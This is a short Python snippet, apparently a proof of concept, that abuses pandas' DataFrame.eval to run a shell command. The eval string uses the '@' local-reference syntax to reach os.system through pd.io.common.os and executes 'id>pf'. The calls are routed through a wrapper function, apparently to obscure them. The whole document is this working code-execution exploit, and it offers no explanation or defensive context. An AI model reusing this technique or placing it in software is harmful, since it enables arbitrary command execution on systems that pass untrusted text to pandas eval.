def my_go(f, *a, **k):
    return f(*a, **k)
import pandas as pd
df = my_go(pd.DataFrame, {'a': [1]})
text = f"b = @{'pd'}.io.common.os.system('id>pf')"
my_go(df.eval, text, inplace=True)
